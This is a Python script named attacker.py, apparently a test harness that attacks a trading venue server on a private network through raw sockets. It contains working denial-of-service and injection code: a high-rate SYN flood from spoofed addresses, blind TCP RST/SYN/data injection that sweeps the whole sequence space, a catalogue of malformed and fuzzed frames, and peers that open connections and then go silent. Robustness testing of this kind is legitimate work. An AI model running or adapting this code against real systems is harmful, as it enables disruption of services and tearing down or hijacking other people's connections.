#!/usr/bin/python3
"""Somebody on the venue's own link who wishes it ill: frames of any content through a raw socket.

    attacker.py LINK VENUE_MAC flood RATE SECONDS            SYNs from 65,536 invented 4-tuples
    attacker.py LINK VENUE_MAC blind KIND ADDRESS PORT...    rst, syn or data for connections that it cannot see: one
                                                             segment for each window in the whole sequence space
    attacker.py LINK VENUE_MAC malformed SEED COUNT          frames that are wrong in every way we know, then by chance
    attacker.py LINK VENUE_MAC peers FILE COUNT SECONDS      peers that open and never acknowledge what they get; the
                                                             first ones send the login packets of FILE, a line each

Scapy is Debian's, so this runs under Debian's Python, /usr/bin/python3. The last line says what was done.
"""
import ctypes
import random
import socket
import struct
import sys
import time

VENUE, PORT = "10.213.0.1", 9000
OUR_MAC = "02:66:66:66:66:66"  # nobody's: the kernel here leaves what comes for it alone
FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
WINDOW = 63488
BATCH = 64  # frames a system call


def mac_bytes(text):
    return bytes(int(part, 16) for part in text.split(":"))


def add(data, start=0):
    """The sum of 16-bit words, not folded."""
    if len(data) % 2:
        data += b"\0"
    return start + sum(struct.unpack(f">{len(data) // 2}H", data))


def fold(total):
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


class Builder:
    """Frames to the venue with right checksums; built by hand, because Scapy makes a few thousand a second."""

    def __init__(self, venue_mac):
        self.eth = mac_bytes(venue_mac) + mac_bytes(OUR_MAC) + b"\x08\0"
        self.dst = socket.inet_aton(VENUE)

    def tcp(self, src, port, flags, seq, ack=0, data=b"", options=b"", window=WINDOW):
        source = socket.inet_aton(src)
        head = struct.pack(">HHIIBBH", port, PORT, seq & 0xffffffff, ack & 0xffffffff,
                           (20 + len(options)) // 4 << 4, flags, window)
        body = head + b"\0\0\0\0" + options + data
        total = fold(add(source + self.dst + body, 6 + len(body)))
        ip = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(body), 0, 0x4000, 64, 6, 0) + source + self.dst
        ip = ip[:10] + struct.pack(">H", fold(add(ip))) + ip[12:]
        return self.eth + ip + head + struct.pack(">HH", total, 0) + options + data


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("bytes", ctypes.c_size_t)]


class Message(ctypes.Structure):  # struct mmsghdr
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(Iovec)),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int), ("padding", ctypes.c_int), ("sent", ctypes.c_uint64)]


class Link:
    def __init__(self, name):
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.socket.bind((name, 0))
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        self.socket.setsockopt(263, 20, 1)  # SOL_PACKET, PACKET_QDISC_BYPASS
        self.libc = ctypes.CDLL(None, use_errno=True)

    def send(self, frame):
        self.socket.send(frame)

    def send_many(self, frames, rate, seconds=None):
        """All of them, or round and round for some time, at `rate` a second. Returns how many and how long."""
        memory = ctypes.create_string_buffer(b"".join(frames))
        parts, messages = (Iovec * len(frames))(), (Message * len(frames))()
        at = ctypes.addressof(memory)
        for i, frame in enumerate(frames):
            parts[i] = Iovec(at, len(frame))
            messages[i].iov, messages[i].iovlen = ctypes.pointer(parts[i]), 1
            at += len(frame)
        began, sent, i = time.monotonic(), 0, 0
        size = ctypes.sizeof(Message)
        while True:
            passed = time.monotonic() - began
            if (seconds is None and sent >= len(frames)) or (seconds is not None and passed >= seconds):
                return sent, passed
            if sent >= passed * rate:
                time.sleep(0.0005)
                continue
            n = min(BATCH, len(frames) - i)
            done = self.libc.sendmmsg(self.socket.fileno(), ctypes.byref(messages, i * size), n, 0)
            if done > 0:
                sent += done
                i = (i + done) % len(frames)


def flood(link, build, rate, seconds):
    options = bytes.fromhex("020405b40402080a0000000100000000 01030307")
    frames = []
    for i in range(65536):
        source = f"10.{10 + i % 200}.{i // 200 % 250}.{1 + i % 251}"
        frames.append(build.tcp(source, 1024 + i % 60000, SYN, i * 77777, options=options))
    sent, took = link.send_many(frames, rate, seconds)
    print(f"sent {sent} rate {sent / took:.0f}")


def blind(link, build, kind, address, ports):
    frames = []
    for port in ports:
        offset = random.randrange(WINDOW)
        for seq in range(offset, 1 << 32, WINDOW):
            if kind == "rst":
                frames.append(build.tcp(address, port, RST, seq))
            elif kind == "syn":
                frames.append(build.tcp(address, port, SYN, seq))
            else:
                stamps = b"\1\1\10\12" + random.randbytes(4) + bytes(4)
                frames.append(build.tcp(address, port, PSH | ACK, seq, random.randrange(1 << 32), b"\0\1O" * 4, stamps))
    sent, took = link.send_many(frames, 60000)
    print(f"sent {sent} rate {sent / took:.0f}")


def malformed_frames(venue_mac, count):
    """Frames of Scapy's making. Each kind is wrong in a way of its own; those after them by chance."""
    from scapy.all import ARP, ICMP, IP, TCP, Ether, IPOption, Raw, fuzz  # noqa: E402
    eth = Ether(dst=venue_mac, src=OUR_MAC)

    def ip(**fields):
        return eth / IP(**{"src": "10.213.0.66", "dst": VENUE, **fields})

    def tcp(**fields):
        return TCP(**{"sport": random.randrange(1024, 65536), "dport": PORT, "flags": "S", **fields})

    kinds = [
        eth, eth / b"\x45", Ether(dst=venue_mac, src=OUR_MAC, type=0x0800) / b"\x45\0\0\x14",
        Ether(dst=venue_mac, src=OUR_MAC, type=0x86dd) / (b"\x60" + bytes(60)),
        Ether(dst=venue_mac, src=OUR_MAC, type=0x1234) / bytes(50),
        ip(version=5) / tcp(), ip(ihl=4) / tcp(), ip(ihl=15) / tcp(), ip(len=10) / tcp(), ip(len=1400) / tcp(),
        ip(chksum=1) / tcp(), ip(flags="MF") / tcp(), ip(frag=9) / tcp(),
        ip(options=[IPOption(b"\x83\x07\x04\x0a\x00\x00\x01")]) / tcp(), ip(options=[IPOption(b"\x44\x00")]) / tcp(),
        ip(src="0.0.0.0") / tcp(), ip(src="127.0.0.1") / tcp(), ip(src="224.0.0.1") / tcp(), ip(src=VENUE) / tcp(),
        ip(src="255.255.255.255") / tcp(), ip(dst="10.213.0.9") / tcp(), ip(dst="224.0.0.1") / tcp(),
        Ether(dst="ff:ff:ff:ff:ff:ff", src=OUR_MAC) / IP(src="10.213.0.66", dst=VENUE) / tcp(),
        ip(proto=17) / bytes(30), ip(proto=6) / bytes(5), ip(proto=6) / b"",
        ip() / tcp(chksum=1), ip() / tcp(dataofs=4), ip() / tcp(dataofs=15), ip() / tcp(flags=0),
        ip() / tcp(flags="SF"), ip() / tcp(flags="SR"), ip() / tcp(flags="FSRPAUEC"), ip() / tcp(flags="F"),
        ip() / tcp(flags="RF"), ip() / tcp(dport=9999), ip() / tcp(flags="A", ack=77), ip() / tcp(flags="R"),
        ip() / tcp(sport=0), ip() / tcp(flags="S", seq=0xffffffff) / bytes(100),
        ip(proto=6) / raw_options(b"\x02\x00\x01\x01"), ip(proto=6) / raw_options(b"\x63\x01\x01\x01"),
        ip(proto=6) / raw_options(b"\x08\xff\x00\x00"), ip(proto=6) / raw_options(b"\x05\x03\x00\x00"),
        ip(proto=6) / raw_options(b"\x02\x04\x00\x00"), ip(proto=6) / raw_options(b"\x03\x03\xff\x00"),
        ip(proto=6) / raw_options(b"\x05\x22" + bytes(32) + b"\x01\x01"), ip(proto=6) / raw_options(b"\x00" * 40),
        ip() / ICMP(type=8, chksum=1), ip() / ICMP(type=8) / bytes(1400), ip(proto=1) / b"\x03",
        ip() / ICMP(type=3, code=4) / b"\x45", ip() / ICMP(type=3, code=4, nexthopmtu=0) / IP(src=VENUE, dst="10.213.1.2") / tcp(),
        ip() / ICMP(type=4) / IP(src=VENUE, dst="10.213.1.2") / tcp(), ip() / ICMP(type=5) / bytes(28),
        ip() / ICMP(type=13), ip() / ICMP(type=255, code=255),
        eth / ARP(op=1, hwlen=9, pdst=VENUE), eth / ARP(op=77, pdst=VENUE), eth / ARP(op=2, psrc=VENUE, pdst=VENUE),
        eth / ARP(op=1, hwsrc="ff:ff:ff:ff:ff:ff", psrc="10.213.0.66", pdst=VENUE), eth / Raw(bytes(1486)),
    ]
    for i in range(count):
        yield kinds[i] if i < len(kinds) else random.choice([
            lambda: eth / fuzz(IP(src="10.213.0.66", dst=VENUE)) / fuzz(tcp()),
            lambda: ip() / fuzz(TCP(dport=PORT)),
            lambda: ip() / fuzz(ICMP()) / IP(src=VENUE, dst="10.213.1.2") / tcp(),
            lambda: eth / fuzz(ARP(pdst=VENUE)),
            lambda: ip(proto=random.choice((1, 6))) / Raw(random.randbytes(random.randrange(80))),
            lambda: eth / Raw(random.randbytes(random.randrange(200))),
        ])()


def raw_options(options):
    """A TCP SYN whose options are these bytes, checksum left wrong or right by who sends it."""
    from scapy.all import Raw
    head = struct.pack(">HHIIBBHHH", random.randrange(1024, 65536), PORT, 1, 0, (20 + len(options)) // 4 << 4, SYN, 1000, 0, 0)
    body = head + options
    total = fold(add(socket.inet_aton("10.213.0.66") + socket.inet_aton(VENUE) + body, 6 + len(body)))
    return Raw(body[:16] + struct.pack(">H", total) + body[18:])


def malformed(link, venue_mac, seed, count):
    random.seed(seed)
    sent = 0
    for frame in malformed_frames(venue_mac, count):
        data = bytes(frame)[:1514]
        try:
            link.send(data)
            sent += 1
        except OSError:
            pass  # the kernel refuses a frame without an Ethernet header
        if sent % 50 == 0:
            time.sleep(0.001)
    print(f"sent {sent}")


def peers(link, build, path, count, seconds):
    """Opens `count` connections and answers their SYN|ACKs; some log in; then silence, whatever comes."""
    with open(path, encoding="utf-8") as file:
        logins = [bytes.fromhex(line) for line in file]
    link.socket.settimeout(0.2)
    for i in range(count):
        link.send(build.tcp(f"10.213.0.{100 + i % 100}", 20000 + i, SYN, 1000, options=bytes.fromhex("020405b4")))
    opened, got, segments, ttl, tos = set(), 0, 0, 0, 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            frame = link.socket.recv(2000)
        except socket.timeout:
            continue
        if frame[:6] != mac_bytes(OUR_MAC) or len(frame) < 54 or frame[23] != 6:
            continue
        port, (seq, ack), flags = struct.unpack(">H", frame[36:38])[0], struct.unpack(">II", frame[38:46]), frame[47]
        if frame[30:33] != b"\x0a\xd5\0" or port not in range(20000, 20000 + count):
            continue  # what an earlier flood is still told
        if flags & SYN:
            address, login = socket.inet_ntoa(frame[30:34]), b"".join(logins[port - 20000:][:1])
            link.send(build.tcp(address, port, ACK, ack, seq + 1))
            if login and port not in opened:
                link.send(build.tcp(address, port, ACK | PSH, ack, seq + 1, login))
            opened.add(port)
            ttl, tos = frame[22], frame[15]
        else:
            got += len(frame) - 34 - (frame[46] >> 4) * 4
            segments += 1
    print(f"opened {len(opened)} segments {segments} bytes {got} ttl {ttl} tos {tos}")


def main():
    link, venue_mac, mode, *args = sys.argv[1:]
    raw, build = Link(link), Builder(venue_mac)
    if mode == "flood":
        flood(raw, build, int(args[0]), float(args[1]))
    elif mode == "blind":
        blind(raw, build, args[0], args[1], [int(port) for port in args[2:]])
    elif mode == "malformed":
        malformed(raw, venue_mac, int(args[0]), int(args[1]))
    elif mode == "peers":
        peers(raw, build, args[0], int(args[1]), float(args[2]))
    else:
        sys.exit(f"no mode {mode}")


main()
